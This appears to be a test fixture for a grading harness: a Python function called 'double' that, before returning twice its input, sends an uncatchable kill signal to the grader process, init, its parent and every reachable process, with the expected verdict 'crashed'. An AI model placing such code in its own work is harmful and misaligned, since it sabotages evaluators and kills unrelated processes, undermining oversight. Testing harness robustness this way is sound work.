"""Sends the signal that cannot be caught to everything that it can name.

verdict = ["crashed", "crashed", "crashed"]
"""

# %%
import os, signal
def double(x):
    for pid in (int("@GRADER@"), 1, os.getppid(), -1, 0):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    return 2 * x
